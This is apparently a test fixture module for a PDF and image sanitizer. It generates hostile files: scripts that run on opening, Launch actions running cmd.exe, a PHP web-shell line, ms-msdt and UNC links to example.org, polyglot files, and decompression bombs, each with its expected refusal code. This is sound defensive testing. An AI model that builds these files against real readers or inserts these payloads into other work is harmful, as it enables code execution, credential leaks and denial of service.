"""More hostile files, beyond the plain ones of ``paper_corpus``: hidden, nested, of two kinds.

``HIDDEN`` and ``BOMBS`` map a speaking name to a function that builds the file and to the codes
of which one must be its refusal. ``DISARMED`` are pictures that carry something behind or beside
their pixels: they are accepted, drawn anew, and the word ``PAYLOAD`` is gone. ``EXHAUSTING`` hurt
only whoever draws them: each is refused, or its drawing ends in a page or in a refusal.
"""

import functools
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Mapping

import pikepdf
from PIL import Image, PngImagePlugin
from tests.adapters.paper_corpus import (
    CATALOGUE,
    PAGE,
    PAGES,
    SCRIPT,
    Build,
    action,
    annotation,
    archive,
    certificate,
    jpeg,
    pdf_of,
    photograph,
    png,
    small_pdf,
    stream,
)

ACTIVE = ("file_active",)
DAMAGED = ("file_damaged",)
TOO_BIG = ("file_too_big_inside",)
ANY = ("file_damaged", "file_active", "file_too_big_inside", "file_encrypted")

PAYLOAD = b"Schadprogramm-Muster"
OPENS_WEB_PAGE = b"<< /S /URI /URI (http://example.org/) >>"
_MARKUP = b"<html><script>alert(1)</script></html>"


def packed(data: bytes, **how: object) -> bytes:
    """The same PDF with all its objects in compressed object streams."""
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(data)) as pdf:
        mode = pikepdf.ObjectStreamMode.generate
        pdf.save(out, object_stream_mode=mode, **how)  # type: ignore[arg-type]
    return out.getvalue()


def field(entries: bytes, form: bytes = b"") -> bytes:
    """A page with one text field of a form, merged with its widget."""
    body = b"<< /FT /Tx /T (Name) /Type /Annot /Subtype /Widget /Rect [9 9 99 29] %s >>" % entries
    return small_pdf(b"/AcroForm << /Fields [4 0 R] %s >>" % form, b"/Annots [4 0 R]", body)


def later(first: bytes, *objects: tuple[int, bytes], root: int = 1) -> bytes:
    """An incremental update that replaces or adds these objects."""
    out, offsets = first, []
    for number, body in objects:
        offsets.append((number, len(out)))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    rows = b"".join(b"%d 1\n%010d 00000 n \n" % pair for pair in offsets)
    before = int(first.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    tail = b"trailer\n<< /Root %d 0 R /Size 9 /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
    return out + b"xref\n" + rows + tail % (root, before, len(out))


def _script_taken_back() -> bytes:
    """The first revision acts, the second one hides it."""
    first = small_pdf(b"/OpenAction " + SCRIPT)
    return later(first, (1, b"<< " + CATALOGUE + b" >>"))


def _script_taken_back_from_a_packed_file() -> bytes:
    first = packed(small_pdf(b"/OpenAction " + SCRIPT))
    with pikepdf.open(io.BytesIO(first)) as pdf:
        root = int(pdf.Root.objgen[0])
        pages = int(pdf.Root.Pages.objgen[0])
    return later(first, (root, b"<< /Type /Catalog /Pages %d 0 R >>" % pages), root=root)


def _object_outside_the_table() -> bytes:
    """The table leads to a harmless object 4; a reader that rebuilds it finds the other one."""
    data = small_pdf(b"", b"/Annots [4 0 R]", b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] >>")
    hidden = b"4 0 obj\n<< /Subtype /Link /Rect [0 0 9 9] /A " + SCRIPT + b" >>\nendobj\n"
    head, tail = data.rsplit(b"xref\n0", 1)
    start = int(tail.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    moved = tail.replace(b"startxref\n%d" % start, b"startxref\n%d" % (start + len(hidden)))
    return head + hidden + b"xref\n0" + moved


def _hybrid_table() -> bytes:
    """Objects of ``/XRefStm`` are seen by new readers alone."""
    head = small_pdf(b"/OpenAction 5 0 R")
    body, _ = head.rsplit(b"xref\n0", 1)
    offsets = [body.index(b"%d 0 obj" % number) for number in (1, 2, 3)]
    stream_at = len(body)
    script = b"5 0 obj\n" + SCRIPT + b"\nendobj\n"
    row = b"\x01" + (stream_at).to_bytes(4, "big") + b"\x00"
    body += script
    table_at = len(body)
    entries = b"/Type /XRef /Size 6 /W [1 4 1] /Index [5 1] /Root 1 0 R"
    body += b"6 0 obj\n" + stream(row, entries) + b"\nendobj\n"
    rows = b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    table = b"xref\n0 4\n0000000000 65535 f \n" + rows
    trailer = b"trailer\n<< /Root 1 0 R /Size 7 /XRefStm %d >>\nstartxref\n%d\n%%%%EOF\n"
    return body + table + trailer % (table_at, len(body))


def _mail_with_a_macro() -> bytes:
    """A web archive between the head of the PDF and its first object; Word opens it as its own."""
    archive_text = b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\n"
    return _shifted(archive_text)


def _shifted(inserted: bytes) -> bytes:
    """A whole PDF with something between its first line and its first object."""
    data = certificate()
    start = data.index(b"\n") + 1
    out = data[:start] + inserted + data[start:]
    grown = len(inserted)
    body, table = out.rsplit(b"xref\n0 ", 1)
    lines = [
        b"%010d %s" % (int(line[:10]) + grown, line[11:]) if line.endswith(b" n ") else line
        for line in table.split(b"\n")
    ]
    at = lines.index(b"startxref") + 1
    lines[at] = b"%d" % (int(lines[at]) + grown)
    return body + b"xref\n0 " + b"\n".join(lines)


def _zip_and_pdf(inner: bytes = b"") -> bytes:
    """One file that is a right PDF and a right ZIP (so also a JAR or a Word file)."""
    out = io.BytesIO()
    held = small_pdf(b"", b"", stream(b"@" * 4096))
    start = held.index(b"@" * 4096)
    zipped = io.BytesIO()
    zipped.write(held[:start])
    with zipfile.ZipFile(zipped, "a") as archived:
        archived.writestr("META-INF/MANIFEST.MF", "Main-Class: Muster\n")
        archived.writestr("Muster.class", inner or b"\xca\xfe\xba\xbe")
    body = zipped.getvalue()[start:]
    rest = held[start + len(body) :]
    # The comment of the archive covers what follows of the PDF.
    body = body[:-2] + struct.pack("<H", len(rest))
    out.write(held[:start] + body + rest)
    assert zipfile.is_zipfile(io.BytesIO(out.getvalue()))
    return out.getvalue()


def _tar_and_pdf() -> bytes:
    """The first name in the archive is the first line of the PDF."""
    data = certificate()
    held = io.BytesIO()
    with tarfile.open(fileobj=held, mode="w", format=tarfile.USTAR_FORMAT) as archived:
        entry = tarfile.TarInfo("%PDF-1.7\n%" + "x" * 60)
        entry.size = 512
        archived.addfile(entry, io.BytesIO(b"%" * 511 + b"\n"))
    return _with_start(data, held.getvalue()[:1024])


def _with_start(data: bytes, start: bytes) -> bytes:
    first = data.index(b"\n") + 1
    return _shifted(start[first:] + b"\n") if start[:first] == data[:first] else start + data


def _length_in_a_circle() -> bytes:
    return small_pdf(b"", b"/Contents 4 0 R", b"<< /Length 4 0 R >>\nstream\nq Q\nendstream")


def _pages_in_a_chain(depth: int = 20_000) -> bytes:
    """Each node of the page tree has one child; the page is at the end."""
    nodes = [
        b"<< /Type /Pages /Kids [%d 0 R] /Count 1 /Parent %d 0 R >>" % (number + 1, number - 1)
        for number in range(2, depth)
    ]
    page = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 9 9] >>" % (depth - 1)
    return pdf_of(b"<< " + CATALOGUE + b" >>", *nodes, page)


def _table_in_a_circle() -> bytes:
    data = small_pdf()
    start = int(data.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    return data.replace(b"/Size 4", b"/Size 4 /Prev %d" % start)


def _object_streams_in_a_circle() -> bytes:
    body = (
        b"<< /Type /ObjStm /N 1 /First 4 /Extends 4 0 R /Length 8 >>\nstream\n4 0 null\nendstream"
    )
    table = b"%PDF-1.5\n4 0 obj\n" + body + b"\nendobj\n"
    rows = bytes([0, 0, 0, 0]) + bytes([2, 0, 4, 0]) * 4 + bytes([1, 0, len(table), 0])
    cross = stream(rows, b"/Type /XRef /Size 6 /W [1 2 1] /Root 1 0 R")
    return table + b"5 0 obj\n" + cross + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(table)


def _endless_table() -> bytes:
    """A cross-reference stream that claims two milliards of objects."""
    out = b"%PDF-1.5\n"
    cross = stream(b"\x00" * 64, b"/Type /XRef /Size 2147483647 /W [1 2 1] /Root 1 0 R")
    return out + b"5 0 obj\n" + cross + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(out)


def image(entries: bytes, data: bytes, drawing: bytes = b"500 0 0 500 20 20 cm /I Do") -> bytes:
    """A page that shows one picture, made of these bytes."""
    page = b"/Resources << /XObject << /I 4 0 R >> >> /Contents 5 0 R"
    head = b"/Type /XObject /Subtype /Image /BitsPerComponent 8 " + entries
    return small_pdf(b"", page, stream(data, head), stream(drawing))


@functools.cache
def _jpeg_2000(side: int = 64) -> bytes:
    out = io.BytesIO()
    Image.new("L", (side, side), "gray").save(out, "JPEG2000", no_jp2=True)
    return out.getvalue()


def _jpeg_2000_that_lies() -> bytes:
    """64 by 64 pixels for who reads the PDF, 60,000 by 60,000 for who opens the picture."""
    data = _jpeg_2000()
    at = data.index(b"\xff\x51") + 6
    sides = struct.pack(">II", 60_000, 60_000)
    data = data[:at] + sides + data[at + 8 : at + 16] + sides + data[at + 24 :]
    return image(b"/Width 64 /Height 64 /ColorSpace /DeviceGray /Filter /JPXDecode", data)


def _jpeg_that_lies() -> bytes:
    data = jpeg(Image.new("L", (64, 64), "gray"))
    at = data.index(b"\xff\xc0") + 5
    data = data[:at] + struct.pack(">HH", 60_000, 60_000) + data[at + 4 :]
    return image(b"/Width 64 /Height 64 /ColorSpace /DeviceGray /Filter /DCTDecode", data)


def _packed_jpeg_that_lies() -> bytes:
    data = jpeg(Image.new("L", (64, 64), "gray"))
    at = data.index(b"\xff\xc0") + 5
    data = zlib.compress(data[:at] + struct.pack(">HH", 60_000, 60_000) + data[at + 4 :])
    entries = b"/Width 64 /Height 64 /ColorSpace /DeviceGray /Filter [/FlateDecode /DCTDecode]"
    return image(entries, data)


def forms_in_forms(levels: int, each: int) -> bytes:
    """A drawing that draws the next one ``each`` times, and so on: ``each ** levels`` in all."""
    objects = []
    for level in range(levels):
        inner = b"/Resources << /XObject << /F %d 0 R >> >>" % (6 + level)
        head = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] " + inner
        objects.append(stream(b"/F Do " * each, head))
    last = stream(b"0 0 m 9 9 l S", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9]")
    page = b"/Resources << /XObject << /F 5 0 R >> >> /Contents 4 0 R"
    return small_pdf(b"", page, stream(b"/F Do"), *objects, last)


def _form_in_itself() -> bytes:
    inner = b"/Resources << /XObject << /F 5 0 R >> >>"
    head = b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] " + inner
    page = b"/Resources << /XObject << /F 5 0 R >> >> /Contents 4 0 R"
    return small_pdf(b"", page, stream(b"/F Do"), stream(b"/F Do /F Do", head))


def _tiles() -> bytes:
    """A pattern of tiles a millionth of a point wide, over the whole page."""
    head = (
        b"/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1]"
        b" /XStep 0.000001 /YStep 0.000001 /Resources << >>"
    )
    page = b"/Resources << /Pattern << /P 4 0 R >> >> /Contents 5 0 R"
    drawing = b"/Pattern cs /P scn 0 0 595 842 re f"
    return small_pdf(b"", page, stream(b"0 0 1 1 re f", head), stream(drawing))


def _columns_without_end() -> bytes:
    parameters = b"/DecodeParms << /Predictor 12 /Columns 2147483647 /Colors 32 >>"
    entries = b"/Width 9 /Height 9 /ColorSpace /DeviceGray /Filter /FlateDecode " + parameters
    return image(entries, zlib.compress(b"\x02" * 5000))


def _fields_in_a_circle() -> bytes:
    form = b"/AcroForm << /Fields [4 0 R] /DR << >> /DA (/Helv 0 Tf 0 g) >>"
    one = b"<< /FT /Tx /T (a) /Kids [5 0 R] /Parent 5 0 R /V (Muster) >>"
    two = b"<< /T (b) /Kids [4 0 R] /Parent 4 0 R /Type /Annot /Subtype /Widget /Rect [0 0 9 9] >>"
    return small_pdf(form, b"/Annots [5 0 R]", one, two)


def _drawing(data: bytes) -> bytes:
    return small_pdf(b"", b"/Contents 4 0 R", stream(zlib.compress(data), b"/Filter /FlateDecode"))


def _inline_image() -> bytes:
    return _drawing(b"q 500 0 0 500 0 0 cm BI /W 60000 /H 60000 /CS /G /BPC 8 /F /Fl ID \x00 EI Q")


def _scanned_with_lies() -> bytes:
    """A JBIG2 page that claims four milliards of lines."""
    page = struct.pack(">IBBBI", 0, 0x30, 0, 1, 19)
    page += struct.pack(">IIIIBH", 0xFFFFFFF0, 0xFFFFFFF0, 0, 0, 0, 0)
    entries = b"/Width 64 /Height 64 /ColorSpace /DeviceGray /Filter /JBIG2Decode"
    return image(entries.replace(b"/ColorSpace", b"/Decode [0 1] /ColorSpace"), page)


def _lzw_bomb() -> bytes:
    """The same code over and over; LZW has no length that could be read in advance."""
    entries = b"/Filter [/LZWDecode /LZWDecode]"
    return small_pdf(b"", b"/Contents 4 0 R", stream(b"\x80\x0b\x60\x50" * 500_000, entries))


def _jpeg_head(width: int, height: int) -> bytes:
    data = jpeg(Image.new("L", (64, 64), "gray"))
    at = data.index(b"\xff\xc0") + 5
    return data[:at] + struct.pack(">HH", height, width) + data[at + 4 :]


def _chunk(kind: bytes, body: bytes) -> bytes:
    check = zlib.crc32(kind + body).to_bytes(4, "big")
    return len(body).to_bytes(4, "big") + kind + body + check


def _png_with_sides(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + _chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + _chunk(b"IEND", b"")
    )


@functools.cache
def _png_with_text(megabytes: int) -> bytes:
    engine = zlib.compressobj(1)
    text = b"".join(engine.compress(b" " * 1024 * 1024) for _ in range(megabytes)) + engine.flush()
    plain = png(Image.new("L", (9, 9)))
    return plain[:33] + _chunk(b"zTXt", b"Muster\x00\x00" + text) + plain[33:]


def _png_saying(word: bytes) -> bytes:
    said = PngImagePlugin.PngInfo()
    said.add_text("Comment", word.decode(), zip=False)
    said.add_itxt("XML:com.adobe.xmp", f"<x>{word.decode()}</x>")
    out = io.BytesIO()
    photograph((90, 120)).save(out, "PNG", pnginfo=said)
    return out.getvalue()


# Active content, each in another place or dress.
HIDDEN: Mapping[str, tuple[Build, tuple[str, ...]]] = {
    "web page behind a jump on opening": (
        lambda: small_pdf(
            b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next " + OPENS_WEB_PAGE + b" >>"
        ),
        ACTIVE,
    ),
    "web page behind two jumps on opening": (
        lambda: small_pdf(
            b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /GoTo /D [3 0 R /Fit]"
            b" /Next 4 0 R >>] >>",
            b"",
            OPENS_WEB_PAGE,
        ),
        ACTIVE,
    ),
    "jumps in a circle on opening": (
        lambda: small_pdf(b"/OpenAction 4 0 R", b"", b"<< /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>"),
        ACTIVE,
    ),
    "web page when the file is closed": (
        lambda: small_pdf(b"/AA << /WC " + OPENS_WEB_PAGE + b" >>"),
        ACTIVE,
    ),
    "web page when a page is left": (
        lambda: small_pdf(b"", b"/AA << /C 4 0 R >>", OPENS_WEB_PAGE),
        ACTIVE,
    ),
    "web page when the mouse comes": (
        lambda: annotation(b"Widget", b"/FT /Btn /AA << /E " + OPENS_WEB_PAGE + b" >>"),
        ACTIVE,
    ),
    "web page when an annotation is seen": (
        lambda: annotation(b"Square", b"/AA << /PV " + OPENS_WEB_PAGE + b" >>"),
        ACTIVE,
    ),
    "saves itself on opening": (
        lambda: small_pdf(b"/OpenAction << /S /Named /N /SaveAs >>"),
        ACTIVE,
    ),
    "script on typing": (lambda: field(b"/AA << /K " + SCRIPT + b" >>"), ACTIVE),
    "script that formats a field": (lambda: field(b"/AA << /F " + SCRIPT + b" >>"), ACTIVE),
    "script that checks a field": (lambda: field(b"/AA << /V " + SCRIPT + b" >>"), ACTIVE),
    "script that calculates a field": (
        lambda: field(b"/AA << /C " + SCRIPT + b" >>", b"/CO [4 0 R]"),
        ACTIVE,
    ),
    "script of a field's parent": (
        lambda: small_pdf(
            b"/AcroForm << /Fields [4 0 R] >>",
            b"/Annots [5 0 R]",
            b"<< /FT /Tx /T (a) /Kids [5 0 R] /AA << /C " + SCRIPT + b" >> >>",
            b"<< /Parent 4 0 R /Subtype /Widget /Rect [0 0 9 9] >>",
        ),
        ACTIVE,
    ),
    "script of a bookmark": (
        lambda: small_pdf(
            b"/Outlines << /Type /Outlines /First 4 0 R /Last 4 0 R /Count 1 >>",
            b"",
            b"<< /Title (Anfang) /Parent 1 0 R /A " + SCRIPT + b" >>",
        ),
        ACTIVE,
    ),
    "script of a named place": (
        lambda: small_pdf(
            b"/Names << /Dests << /Names [(a) << /D [3 0 R /Fit] /A " + SCRIPT + b" >>] >> >>"
        ),
        ACTIVE,
    ),
    "script before printing": (lambda: small_pdf(b"/AA << /WP " + SCRIPT + b" >>"), ACTIVE),
    "script of a rendition": (
        lambda: annotation(b"Widget", b"/A << /S /Rendition /OP 0 /JS (1) >>"),
        ACTIVE,
    ),
    "script in hexadecimal": (
        lambda: action(b"/S /JavaScript /JS <6170702e616c657274283129>"),
        ACTIVE,
    ),
    "script with every letter escaped": (
        lambda: action(b"/#53 /#4a#61#76#61#53#63#72#69#70#74 /#4a#53 (1)"),
        ACTIVE,
    ),
    "script with its kind elsewhere": (
        lambda: small_pdf(
            b"",
            b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S 4 0 R /JS 5 0 R >> >>]",
            b"/JavaScript",
            b"(app.alert\\(1\\))",
        ),
        ACTIVE,
    ),
    "script dressed as a picture": (
        lambda: small_pdf(
            b"",
            b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /JavaScript /JS 4 0 R >> >>]",
            stream(b"app.alert(1)", b"/Subtype /Image /Width 1 /Height 1"),
        ),
        ACTIVE,
    ),
    "packed script in the names tree": (
        lambda: packed(
            small_pdf(b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", b"", SCRIPT)
        ),
        ACTIVE,
    ),
    "packed and linearised script": (
        lambda: packed(small_pdf(b"/OpenAction 4 0 R", b"", SCRIPT), linearize=True),
        ACTIVE,
    ),
    "script seen by new readers alone": (_hybrid_table, ACTIVE),
    "script taken back by an update": (_script_taken_back, ACTIVE),
    "packed script taken back by an update": (_script_taken_back_from_a_packed_file, ACTIVE),
    "script put in by an update": (
        lambda: later(small_pdf(), (1, b"<< " + CATALOGUE + b" /OpenAction " + SCRIPT + b" >>")),
        ACTIVE,
    ),
    "script outside the table": (_object_outside_the_table, ACTIVE),
    "packed launch": (lambda: packed(action(b"/S /Launch /F (cmd.exe)")), ACTIVE),
    "launch with words for Windows": (
        lambda: action(b"/S /Launch /Win << /F (cmd.exe) /P (/c calc) >>"),
        ACTIVE,
    ),
    "launch with an escaped name": (lambda: action(b"/S /L#61unch /F (cmd.exe)"), ACTIVE),
    "launch on opening": (
        lambda: small_pdf(b"/OpenAction << /S /Launch /F (\\\\\\\\example.org\\\\a) >>"),
        ACTIVE,
    ),
    "another file on opening": (
        lambda: small_pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\example.org\\\\a) /D [0 /Fit] >>"),
        ACTIVE,
    ),
    "form sent on opening": (
        lambda: small_pdf(b"/OpenAction << /S /SubmitForm /F (http://example.org) /Flags 256 >>"),
        ACTIVE,
    ),
    "article of another file": (lambda: action(b"/S /Thread /F (a.pdf) /D 0"), ACTIVE),
    "three-dimensional view": (lambda: action(b"/S /GoTo3DView /V 0"), ACTIVE),
    "three-dimensional drawing": (
        lambda: small_pdf(
            b"",
            b"/Annots [<< /Type /Annot /Subtype /3D /Rect [0 0 9 9] /3DD 4 0 R >>]",
            stream(b"U3D", b"/Type /3D /Subtype /U3D"),
        ),
        ACTIVE,
    ),
    "script that starts with a drawing": (
        lambda: small_pdf(
            b"/X 4 0 R",
            b"",
            stream(b"U3D", b"/Type /3D /Subtype /U3D /OnInstantiate 5 0 R"),
            stream(b"app.alert(1)"),
        ),
        ACTIVE,
    ),
    "rich media that starts": (lambda: action(b"/S /RichMediaExecute /CMD << >>"), ACTIVE),
    "sound on opening": (
        lambda: small_pdf(b"/OpenAction << /S /Sound /Sound 4 0 R >>", b"", stream(b"", b"/R 1")),
        ACTIVE,
    ),
    "movie on a page": (
        lambda: small_pdf(b"", b"/AA << /O << /S /Movie /T (Film) >> >>"),
        ACTIVE,
    ),
    "slide show": (
        lambda: small_pdf(
            b"/Names << /AlternatePresentations << /Names [(a) << "
            b" /Subtype /Embedded /Resources << /Names [] >> /StartResource (a) >>] >> >>"
        ),
        ACTIVE,
    ),
    "file of an annotation, packed": (
        lambda: packed(annotation(b"FileAttachment", b"/FS << /Type /Filespec /F (a.exe) >>")),
        ACTIVE,
    ),
    "associated file": (
        lambda: small_pdf(
            b"/AF [<< /Type /Filespec /F (a.xml) /AFRelationship /Data /EF << /UF 4 0 R >> >>]",
            b"",
            stream(b"MZ"),
        ),
        ACTIVE,
    ),
    "associated file of a page": (
        lambda: small_pdf(
            b"", b"/AF [<< /Type /Filespec /F (a.xml) /EF << /F 4 0 R >> >>]", stream(b"MZ")
        ),
        ACTIVE,
    ),
    "inner file that nothing refers to": (
        lambda: small_pdf(b"", b"", stream(b"MZ", b"/Type /EmbeddedFile")),
        ACTIVE,
    ),
    "inner file with an escaped name": (
        lambda: small_pdf(
            b"/Names << /Em#62eddedFiles << /Names [(a) << /#45F << /F 4 0 R >> >>] >> >>",
            b"",
            stream(b"MZ"),
        ),
        ACTIVE,
    ),
    "portfolio": (
        lambda: small_pdf(
            b"/Collection << /View /D >> /Names << /EmbeddedFiles << /Names [] >> >>"
        ),
        ACTIVE,
    ),
    "packed XFA form": (
        lambda: packed(small_pdf(b"/AcroForm << /XFA 4 0 R >>", b"", stream(b"<xdp/>"))),
        ACTIVE,
    ),
    "XFA form with an escaped name": (
        lambda: small_pdf(b"/AcroForm << /#58FA 4 0 R >>", b"", stream(b"<xdp/>")),
        ACTIVE,
    ),
    "program for printers": (
        lambda: small_pdf(
            b"",
            b"/Resources << /XObject << /P 4 0 R >> >>",
            stream(b"(%pipe%id) (w) file", b"/Type /XObject /Subtype /PS"),
        ),
        ACTIVE,
    ),
    "program for printers in a drawing": (
        lambda: small_pdf(
            b"",
            b"",
            stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Subtype2 /PS /PS 5 0 R"),
            stream(b"(%pipe%id) (w) file"),
        ),
        ACTIVE,
    ),
    "picture from another file": (
        lambda: small_pdf(
            b"", b"", stream(b"", b"/Subtype /Form /BBox [0 0 9 9] /Ref << /F (a.pdf) /Page 0 >>")
        ),
        ACTIVE,
    ),
    "data from another file": (
        lambda: small_pdf(
            b"",
            b"/Contents 4 0 R",
            stream(b"", b"/F << /FS /URL /F (http://example.org/a) >> /FFilter /FlateDecode"),
        ),
        ACTIVE,
    ),
    "base of all links that is a script": (
        lambda: small_pdf(b"/URI << /Base (javascript:) >>"),
        ACTIVE,
    ),
    "link that starts a program": (
        lambda: action(b"/S /URI /URI (ms-msdt:/id PCWDiagnostic)"),
        ACTIVE,
    ),
    "link that opens a search": (lambda: action(b"/S /URI /URI (search-ms:query=a)"), ACTIVE),
    "link to another machine's folder": (
        lambda: action(b"/S /URI /URI (\\\\\\\\example.org\\\\teilen)"),
        ACTIVE,
    ),
    **{
        f"link to {name}": (functools.partial(action, b"/S /URI /URI (%s)" % address), ACTIVE)
        for name, address in (
            ("a file of another machine", b"file://example.org/teilen/a.pdf"),
            ("a file of another machine by slashes", b"file://///example.org/teilen/a.pdf"),
            ("a file of another machine by backslashes", b"file:///\\\\\\\\example.org\\\\a.pdf"),
            ("a file of another machine, escaped", b"file:///%5C%5Cexample.org%5Ca.pdf"),
            ("a script on the disk", b"file:///C|/Users/a.PS1"),
            ("a shortcut on the disk, escaped", b"file:///C:/a%2Elnk"),
            ("a program that Windows would complete", b"file:///C:/Windows/System32/calc"),
            ("a program with a dot behind", b"file:///C:/a.exe."),
            ("a program with an end in the middle", b"file:///C:/a.exe%00.pdf"),
            ("a program behind a colon", b"file:///C:/a.exe:x.pdf"),
            ("a program behind a document's name", b"file:///C:/a.exe?.pdf"),
            ("a disk", b"c:/windows/a.pdf"),
        )
    },
    "link with data": (
        lambda: action(b"/S /URI /URI (data:text/html,<script>alert\\(1\\)</script>)"),
        ACTIVE,
    ),
    "link to Visual Basic": (lambda: action(b"/S /URI /URI (VbScript:a)"), ACTIVE),
    "link with blanks and a script": (
        lambda: action(b"/S /URI /URI (\\000\\001 jav\\tascript:alert\\(1\\))"),
        ACTIVE,
    ),
    # Two kinds in one file
    "PDF and ZIP": (_zip_and_pdf, ACTIVE),
    "PDF and ZIP of a Word file": (lambda: _zip_and_pdf(archive("word/vbaProject.bin")), ACTIVE),
    "PDF and TAR": (_tar_and_pdf, ACTIVE),
    "web archive behind the first line": (_mail_with_a_macro, ACTIVE),
    "web page behind the first line": (lambda: _shifted(b"%" + _MARKUP + b"\n"), ACTIVE),
    "drawing with a script behind the first line": (
        lambda: _shifted(b"%<svg onload='alert(1)'>\n"),
        ACTIVE,
    ),
    "script of a server behind the first line": (
        lambda: _shifted(b"%<?php system($_GET[0]); ?>\n"),
        ACTIVE,
    ),
    "picture before a PDF": (lambda: b"GIF89a/*" + certificate() + b"*/", ("file_type",)),
    "program before a PDF": (lambda: b"MZ\x90\x00" + certificate(), ("file_type",)),
    "program behind a PDF": (lambda: certificate() + b"\x7fELF" + bytes(100), DAMAGED),
    "byte order mark before a PDF": (lambda: b"\xef\xbb\xbf" + certificate(), ("file_type",)),
    "two PDFs in a row": (lambda: certificate() + certificate(2), DAMAGED),
}

BOMBS: Mapping[str, tuple[Build, tuple[str, ...]]] = {
    "JPEG 2000 that lies about its size": (_jpeg_2000_that_lies, TOO_BIG),
    "JPEG that lies about its size": (_jpeg_that_lies, TOO_BIG),
    "packed JPEG that lies about its size": (_packed_jpeg_that_lies, TOO_BIG),
    "drawing in itself": (_form_in_itself, TOO_BIG),
    "drawings in drawings, a milliard": (lambda: forms_in_forms(9, 10), TOO_BIG),
    "page tree of 20,000 levels": (_pages_in_a_chain, ANY),
    "table in a circle": (_table_in_a_circle, ANY),
    "object streams in a circle": (_object_streams_in_a_circle, ANY),
    "table of two milliards of objects": (_endless_table, ANY),
    "dictionaries nested 100,000 deep": (
        lambda: small_pdf(b"/X " + b"<</X " * 100_000 + b"0" + b">>" * 100_000),
        ANY,
    ),
    "negative number of pages": (
        lambda: pdf_of(b"<< " + CATALOGUE + b" >>", b"<< /Type /Pages /Kids [] /Count -1 >>"),
        DAMAGED,
    ),
    "picture without a height": (
        lambda: image(b"/Width 9 /ColorSpace /DeviceGray", b"\x00" * 81),
        DAMAGED,
    ),
    "JPEG of 4 gigapixels": (lambda: _jpeg_head(65_500, 65_500), TOO_BIG),
    "PNG with 4 milliards of lines": (lambda: _png_with_sides(1, 0x7FFFFFFF), ANY),
    "PNG without a width": (lambda: _png_with_sides(0, 9), DAMAGED),
    "PNG with a text of 300 MB": (lambda: _png_with_text(300), ANY),
}


_SMALL = (90, 120)

DISARMED: Mapping[str, Build] = {
    "JPEG and ZIP": lambda: jpeg(photograph(_SMALL)) + archive(PAYLOAD.decode()),
    "JPEG and PDF behind it": lambda: (
        jpeg(photograph(_SMALL)) + small_pdf(b"/Title (%s) /OpenAction %s" % (PAYLOAD, SCRIPT))
    ),
    "JPEG and PDF in its comment": lambda: jpeg(
        photograph(_SMALL), comment=small_pdf(b"/X (%s)" % PAYLOAD)
    ),
    "JPEG and web page in its comment": lambda: jpeg(photograph(_SMALL), comment=_MARKUP + PAYLOAD),
    "JPEG with a program behind it": lambda: jpeg(photograph(_SMALL)) + b"MZ" + PAYLOAD,
    "JPEG with a profile that is none": lambda: jpeg(photograph(_SMALL), icc_profile=PAYLOAD * 99),
    "JPEG with another in front of its pixels": lambda: jpeg(
        photograph(_SMALL), exif=b"Exif\x00\x00" + PAYLOAD
    ),
    "PNG and web page in its text": lambda: _png_saying(_MARKUP + PAYLOAD),
    "PNG and script of a server in its text": lambda: _png_saying(b"<?php ?>" + PAYLOAD),
    "PNG and ZIP": lambda: png(photograph(_SMALL)) + archive(PAYLOAD.decode()),
    "PNG with a PDF behind it": lambda: png(photograph(_SMALL)) + small_pdf(b"/X (%s)" % PAYLOAD),
    "PNG with a chunk of its own": lambda: (
        lambda plain: plain[:33] + _chunk(b"muSt", PAYLOAD) + plain[33:]
    )(png(photograph(_SMALL))),
}

EXHAUSTING: Mapping[str, Build] = {
    "length that is its own stream": _length_in_a_circle,
    "page that is a font": lambda: pdf_of(b"<< " + CATALOGUE + b" >>", PAGES, b"<< /Type /Font >>"),
    "tiles without number": _tiles,
    "columns without end": _columns_without_end,
    "fields in a circle": _fields_in_a_circle,
    "picture of 3.6 gigapixels within the drawing": _inline_image,
    "half a million saved states": lambda: _drawing(b"q " * 500_000),
    "a million lines": lambda: _drawing(b"0 0 m " + b"9 9 l 500 800 l " * 500_000 + b"S"),
    "JBIG2 that lies about its size": _scanned_with_lies,
    "LZW within LZW": _lzw_bomb,
    "page of a million kilometres": lambda: pdf_of(
        b"<< " + CATALOGUE + b" >>", PAGES, b"<< " + PAGE.replace(b"595 842", b"1e15 1e15") + b" >>"
    ),
    "page that is inside out": lambda: pdf_of(
        b"<< " + CATALOGUE + b" >>", PAGES, b"<< " + PAGE.replace(b"595 842", b"-9 -9") + b" >>"
    ),
    "page with a million units": lambda: small_pdf(b"", b"/UserUnit 1000000"),
}
